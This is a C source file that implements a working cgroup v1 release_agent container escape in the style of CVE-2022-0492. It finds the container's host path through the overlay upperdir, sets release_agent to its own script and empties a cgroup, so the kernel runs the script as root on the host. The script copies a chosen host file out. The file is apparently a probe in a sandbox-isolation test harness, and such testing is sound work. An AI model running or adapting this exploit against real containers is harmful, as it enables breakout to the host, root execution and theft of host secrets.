/* cgroup v1 release_agent, in the style of CVE-2022-0492: mount a cgroup
 * v1 hierarchy, set its release_agent to a script of ours, and empty a
 * cgroup with notify_on_release set: the kernel then runs the script as
 * root in the host's namespaces.  The hierarchy is our own (a named one,
 * "name=bxa<nonce>", no controller), never an existing one; it is taken
 * down again at the end.  The script's host path comes from the overlay's
 * upperdir in /proc/self/mountinfo, as in the original exploit.
 * ARGS: SECRET PROOF: the script copies the host file SECRET to PROOF. */
#include "attack.h"

#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>

static int put(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY);
	if (fd < 0)
		return -1;
	ssize_t n = write(fd, s, strlen(s));
	int e = errno;
	close(fd);
	errno = e;
	return n == (ssize_t)strlen(s) ? 0 : -1;
}

/* Where the host sees our root: the upperdir of an overlay root, or "". */
static void host_prefix(char *out, size_t len)
{
	char line[8192];
	FILE *f = fopen("/proc/self/mountinfo", "r");
	out[0] = '\0';
	while (f && fgets(line, sizeof line, f)) {
		char mp[4096];
		if (sscanf(line, "%*s %*s %*s %*s %4095s", mp) != 1 || strcmp(mp, "/"))
			continue;
		char *u = strstr(line, "upperdir=");
		if (u) {
			u += strlen("upperdir=");
			snprintf(out, len, "%.*s", (int)strcspn(u, ",\n "), u);
		} else {
			out[0] = '\0';
		}
	}
	if (f)
		fclose(f);
}

int main(int argc, char **argv)
{
	char **a = bxa_init(argc, argv, 2, "SECRET PROOF");
	char dir[4096], cg[4200], agent[4096], hostagent[8192], opts[64], prefix[4096], script[8192], path[8300];
	snprintf(dir, sizeof dir, "%s/bxa-cg-%s", bxa_scratch, bxa_nonce);
	snprintf(cg, sizeof cg, "%s/x", dir);
	snprintf(agent, sizeof agent, "%s/bxa-agent-%s", bxa_scratch, bxa_nonce);
	snprintf(opts, sizeof opts, "none,name=bxa%s", bxa_nonce);
	host_prefix(prefix, sizeof prefix);
	snprintf(hostagent, sizeof hostagent, "%s%s", prefix, agent);
	snprintf(script, sizeof script, "#!/bin/sh\ncat '%s' > '%s'\n", a[0], a[1]);
	int fd = open(agent, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (fd < 0 || write(fd, script, strlen(script)) < 0)
		return bxa_fail("write %s", agent);
	close(fd);
	if (mkdir(dir, 0700) < 0)
		return bxa_fail("mkdir %s", dir);
	if (mount("cgroup", dir, "cgroup", MS_NOSUID | MS_NODEV | MS_NOEXEC, opts) < 0) {
		bxa_fail("mount a new cgroup v1 hierarchy (%s)", opts);
		rmdir(dir);
		return 0;
	}
	int ok = 0;
	if (mkdir(cg, 0755) < 0) {
		bxa_fail("mkdir %s", cg);
		goto out;
	}
	snprintf(path, sizeof path, "%s/notify_on_release", cg);
	if (put(path, "1") < 0) {
		bxa_fail("write %s", path);
		goto out;
	}
	snprintf(path, sizeof path, "%s/release_agent", dir);
	if (put(path, hostagent) < 0) {
		bxa_fail("write release_agent");
		goto out;
	}
	/* A process that enters the cgroup and exits: the cgroup empties. */
	pid_t pid = fork();
	if (pid == 0) {
		char me[32];
		snprintf(me, sizeof me, "%d", getpid());
		snprintf(path, sizeof path, "%s/cgroup.procs", cg);
		_exit(put(path, me) < 0 ? 1 : 0);
	}
	int status = 1;
	if (pid > 0)
		waitpid(pid, &status, 0);
	if (pid < 0 || !WIFEXITED(status) || WEXITSTATUS(status)) {
		errno = EPERM;
		bxa_fail("move a process into %s", cg);
		goto out;
	}
	ok = 1;
	bxa_claim(1, "release_agent set to %s; its cgroup emptied", hostagent);
out:
	/* Let the kernel's helper start before the cgroup goes. */
	if (ok)
		usleep(200000);
	rmdir(cg);
	/* The kernel frees the removed cgroup asynchronously; a hierarchy
	 * unmounted while it still counts as a child stays alive. */
	usleep(100000);
	umount2(dir, MNT_DETACH);
	rmdir(dir);
	return 0;
}
